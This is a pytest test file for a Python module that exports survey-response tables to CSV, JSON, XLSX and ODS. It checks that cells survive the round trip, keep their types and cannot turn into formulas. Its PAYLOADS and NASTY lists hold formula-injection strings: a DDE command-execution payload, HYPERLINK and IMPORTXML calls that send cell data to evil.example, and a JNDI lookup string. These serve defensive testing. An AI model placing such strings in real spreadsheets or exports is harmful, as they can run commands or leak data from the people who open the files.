import csv
import json
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from odfdo import Document

from engage.reports.tables import Cell, Format, TableTooLarge
from engage.reports.tables.cells import CUT, LONGEST_TEXT, safe
from engage.reports.tables.writing import write, write_all

Table = list[list[Cell]]

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", " =", "\xa0=", "\u200b+", "\ufeff@")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example","here")',
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
)
PAYLOADS = [start + body for start in STARTS for body in BODIES]

NASTY = [
    "",
    " ",
    "  two before and after  ",
    "a  b   c",
    "line\nline\r\nline\rline",
    "\n\nafter two",
    "tab\there",
    "NUL\0BEL\x07ESC\x1b",
    "lone \ud800 surrogate \udfff",
    "not characters \ufffe \uffff",
    "<script>alert(1)</script> & \"quotes\" 'more'",
    "]]> <![CDATA[ x ]]> <!-- -->",
    "<r><t>markup</t></r>",
    "_x0041_ _x000D_",
    "&amp; &#0; &lt;",
    "007",
    "1e5",
    "TRUE",
    "null",
    "2026-01-01",
    "1,2;3\t4|5",
    '","=1+1,"',
    "https://example.org/" + "a" * 300,
    "mailto:a@example.org",
    "internal:Sheet2!A1",
    "Ysgol Gynradd Gymraeg ŵŷ",
    "مرحبا \u202egnirts",
    "田中さんにあげて下さい",
    "👩‍👩‍👧 🏴󠁧󠁢󠁷󠁬󠁳󠁿",
    "Z̮̞̠͙͔ͅA̫̲L̗̯G̻O̟",
    "\x80\x85\x9f\u2028\u2029",
    "$HOME ${jndi:ldap://x} {{7*7}} %s %n",
]


def read_csv(path: Path) -> Table:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return [[cell or None for cell in row] for row in csv.reader(file)]


def read_json(path: Path) -> Table:
    objects = json.loads(path.read_text("utf-8"), parse_float=Decimal)
    return [list(one.values()) for one in objects]


def read_xlsx(path: Path) -> Table:
    book = openpyxl.load_workbook(path, read_only=True)
    table = [list(row) for row in book.active.iter_rows(values_only=True)]  # type: ignore[union-attr]
    book.close()
    # openpyxl leaves the escape of a literal "_xHHHH_" (ECMA-376 part 1, 22.9.2.19) in place.
    return [
        [c.replace("_x005F_", "_") if isinstance(c, str) else plain(c) for c in row]
        for row in table
    ]


def read_ods(path: Path) -> Table:
    sheet = Document(str(path)).body.get_sheet(0)
    assert sheet is not None
    return [[plain(cell) for cell in row] for row in sheet.get_values()]


def plain(cell: object) -> Cell:
    """Numbers and days as the tests write them."""
    if isinstance(cell, datetime):
        return cell.date()
    if isinstance(cell, float):
        return Decimal(str(cell))
    return cell  # type: ignore[return-value]


def as_text(table: Table) -> list[list[str | None]]:
    return [
        [None if c is None else f"{c:f}" if isinstance(c, Decimal) else str(c) for c in row]
        for row in table
    ]


def all_four(folder: Path, header: list[str], rows: Table) -> list[list[str | None]]:
    """The rows every format gives back, which must be the same."""
    paths = write_all(folder, header, iter(rows))
    found = as_text(read_json(paths[Format.JSON]))
    assert as_text(read_csv(paths[Format.CSV]))[1:] == found
    assert as_text(read_xlsx(paths[Format.XLSX]))[1:] == found
    assert as_text(read_ods(paths[Format.ODS]))[1:] == found
    return found


def test_every_format_has_the_same_cells(tmp_path: Path) -> None:
    day = date(2026, 9, 21)
    rows: Table = [
        ["Anwen Ltd", 432000, Decimal("0.10"), day, "first"],
        ["Second", -5, Decimal("-1.25"), date(2000, 2, 29), None],
        [None, 0, Decimal("1E+3"), None, "last"],
    ]
    found = all_four(tmp_path, ["Name", "Pounds", "Share", "Day", "Note"], rows)
    assert found == [
        ["Anwen Ltd", "432000", "0.1", "2026-09-21", "first"],
        ["Second", "-5", "-1.25", "2000-02-29", None],
        [None, "0", "1000", None, "last"],
    ]


def test_numbers_and_days_keep_their_types(tmp_path: Path) -> None:
    paths = write_all(tmp_path, ["n", "d", "t"], [[5, date(2026, 1, 2), "6"]])
    assert read_xlsx(paths[Format.XLSX])[1] == [5, date(2026, 1, 2), "6"]
    assert read_ods(paths[Format.ODS])[1] == [5, date(2026, 1, 2), "6"]
    assert json.loads(paths[Format.JSON].read_text()) == [{"n": 5, "d": "2026-01-02", "t": "6"}]
    assert paths[Format.CSV].read_bytes() == (b'\xef\xbb\xbf"n","d","t"\r\n5,"2026-01-02","6"\r\n')


def test_no_payload_is_a_formula_in_any_format(tmp_path: Path) -> None:
    assert len(PAYLOADS) == 60
    found = all_four(tmp_path, ["payload", "then"], [[p, "x"] for p in PAYLOADS])
    assert all(row[0] is not None and row[0].startswith("'") for row in found)
    with zipfile.ZipFile(tmp_path / "responses.xlsx") as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    with zipfile.ZipFile(tmp_path / "responses.ods") as document:
        assert b"table:formula" not in document.read("content.xml")


def test_a_header_is_as_safe_as_a_cell(tmp_path: Path) -> None:
    paths = write_all(tmp_path, ["=1+1", "Same", "Same", "", "a\0b"], [[1, 2, 3, 4, 5]])
    expected = ["'=1+1", "Same", "Same (2)", "Column 4", "a\ufffdb"]
    assert list(json.loads(paths[Format.JSON].read_text("utf-8"))[0]) == expected
    for read, format in ((read_csv, "csv"), (read_xlsx, "xlsx"), (read_ods, "ods")):
        assert read(paths[Format(format)])[0] == expected


def test_nasty_text_comes_back_alike(tmp_path: Path) -> None:
    found = all_four(tmp_path, ["n", "text"], [[n, text] for n, text in enumerate(NASTY)])
    assert [row[1] for row in found] == [safe(text) for text in NASTY]
    assert safe("line\r\nline\rline") == "line\nline\nline"
    assert safe("NUL\0") == "NUL\ufffd"
    assert safe("") is None


@pytest.mark.slow
@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    rows=st.lists(
        st.lists(
            st.text()
            | st.integers()
            | st.decimals()
            | st.none()
            | st.dates()
            | st.text(alphabet=" \t\n\r=+-'<r>_x0041&\ud800", max_size=12),
            min_size=3,
            max_size=3,
        ),
        max_size=6,
    )
)
def test_any_cells_come_back_alike(tmp_path: Path, rows: Table) -> None:
    # A last column that is never empty: readers drop empty cells at the end of a row.
    full = [[*row, "end"] for row in rows]
    found = all_four(tmp_path, ["a", "b", "c", "d"], full)
    assert found == as_text([[safe(cell) for cell in row] for row in full])


@pytest.mark.parametrize(
    "text", ["a" * (LONGEST_TEXT + 1), "👩" * LONGEST_TEXT, "=" + "é" * LONGEST_TEXT]
)
def test_a_text_no_cell_can_hold_is_cut_and_says_so(tmp_path: Path, text: str) -> None:
    found = all_four(tmp_path, ["text", "end"], [[text, "x"]])
    cell = str(found[0][0])
    assert cell.endswith(CUT)
    assert LONGEST_TEXT - 1 <= len(cell.encode("utf-16-le")) // 2 <= LONGEST_TEXT


def test_a_text_that_just_fits_is_whole() -> None:
    assert safe("a" * LONGEST_TEXT) == "a" * LONGEST_TEXT


@pytest.mark.parametrize(
    ("number", "cell"),
    [
        (123456789012345, 123456789012345),
        (1234567890123456, "1234567890123456"),
        (-(10**20), "'-100000000000000000000"),
        (Decimal("0.1234567890123456"), "0.1234567890123456"),
        (Decimal("NaN"), "NaN"),
        (Decimal("-Infinity"), "'-Infinity"),
        (True, "yes"),
        (date(1899, 12, 31), "1899-12-31"),
        (datetime(2026, 9, 3, 12, 30, tzinfo=UTC), "2026-09-03 12:30:00+00:00"),
    ],
)
def test_what_a_spreadsheet_would_change_is_text(number: Cell, cell: Cell) -> None:
    assert safe(number) == cell


def test_no_rows_is_a_table_with_a_header(tmp_path: Path) -> None:
    assert all_four(tmp_path, ["only", "header"], []) == []


def test_the_first_row_stays_in_sight_and_no_name_leaks(tmp_path: Path) -> None:
    paths = write_all(tmp_path, ["a"], [["b"]])
    assert openpyxl.load_workbook(paths[Format.XLSX]).active.freeze_panes == "A2"  # type: ignore[union-attr]
    with zipfile.ZipFile(paths[Format.XLSX]) as book:
        assert b"<dc:creator></dc:creator>" in book.read("docProps/core.xml")
    with zipfile.ZipFile(paths[Format.ODS]) as document:
        first = document.infolist()[0]
        assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
        assert b"VerticalSplitMode" in document.read("settings.xml")
        assert b"creator" not in document.read("meta.xml")


def test_rows_are_read_once_and_progress_is_told(tmp_path: Path) -> None:
    told: list[int] = []
    once = iter([[n] for n in range(250)])
    write_all(tmp_path, ["n"], once, progress=told.append)
    assert told == [100, 200, 250]
    assert list(once) == []


@pytest.mark.parametrize("format", list(Format))
def test_one_format_alone(tmp_path: Path, format: Format) -> None:
    path = tmp_path / f"one.{format}"
    assert write(format.value, path, ["n"], [[1], [2]]) == 2
    assert [file.name for file in tmp_path.iterdir()] == [path.name]


def test_a_failure_half_way_leaves_nothing_behind(tmp_path: Path) -> None:
    def rows() -> Iterator[list[Cell]]:
        yield ["one"]
        raise ConnectionError

    with pytest.raises(ConnectionError):
        write_all(tmp_path, ["n"], rows())
    assert list(tmp_path.iterdir()) == []


def test_too_many_columns_is_refused(tmp_path: Path) -> None:
    with pytest.raises(TableTooLarge, match="16,385 columns"):
        write_all(tmp_path, ["n"] * 16_385, [])


MEASURE = """
import re, sys
from pathlib import Path
from engage.reports.tables import Format
from engage.reports.tables.writing import write_all
text = " ".join(["procurement"] * 75 + ["we", "&", "ŵ"] * 25)
rows = ([n, *(f"{n} {column} {text}" for column in range(20))] for n in range(2_500))
header = ["n", *(f"Question {column}" for column in range(20))]
peak = lambda: int(re.search(r"VmHWM:\\s+(\\d+)", Path("/proc/self/status").read_text())[1])
idle = peak()
write_all(Path(sys.argv[1]), header, rows)
print((peak() - idle) // 1024)
"""


@pytest.mark.slow
@pytest.mark.timeout(300)
@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs Linux's /proc")
def test_many_responses_fit_in_little_memory(tmp_path: Path) -> None:
    told = subprocess.run(
        [sys.executable, "-c", MEASURE, str(tmp_path)], capture_output=True, text=True, check=True
    )
    assert int(told.stdout) < 60, "MiB above idle; the budget of the whole task is 300"
    assert all((tmp_path / f"responses.{format}").stat().st_size > 100_000 for format in Format)
